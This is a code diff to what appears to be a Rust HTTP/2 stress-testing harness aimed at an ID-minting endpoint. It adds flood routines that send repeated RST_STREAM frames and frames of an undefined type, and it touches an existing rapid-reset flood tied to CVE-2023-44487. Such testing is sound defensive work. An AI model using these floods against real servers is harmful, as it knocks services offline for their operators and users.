@@ -21,6 +21,9 @@ const PIECES: usize = 20;
 /// How often each attacker comes with a new connection.
 const TURN: Duration = Duration::from_millis(250);
 
+/// The code of an RST_STREAM of whoever does not want the answer any more.
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
+
 const MINT: &str = "/ids/snowflake";
 
 /// The frames of one connection after its beginning.
@@ -62,6 +65,17 @@ pub(crate) fn priorities(aim: &Aim) -> JoinSet<()> {
     flood(aim, std::iter::repeat_with(|| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])))
 }
 
+/// Of a request that was made once.
+pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
+    flood(aim, std::iter::once(post(1, MINT)).chain(std::iter::repeat_with(|| frame(RST_STREAM, 0, 1, &CANCEL))))
+}
+
+/// Of a type that nobody has defined.
+pub(crate) fn unknown(aim: &Aim) -> JoinSet<()> {
+    const TYPE: u8 = 0xbb;
+    flood(aim, std::iter::repeat_with(|| frame(TYPE, 0, 0, &[])))
+}
+
 /// Of a request that never ends.
 pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, END_HEADERS, 1, &head_of_post(MINT));
@@ -70,7 +84,6 @@ pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
 
 /// Requests, each reset at once: CVE-2023-44487.
 pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
-    const CANCEL: [u8; 4] = [0, 0, 0, 8];
     let streams = (0..).map(|stream| 2 * stream + 1);
     flood(aim, streams.flat_map(|stream| [post(stream, MINT), frame(RST_STREAM, 0, stream, &CANCEL)]))
 }
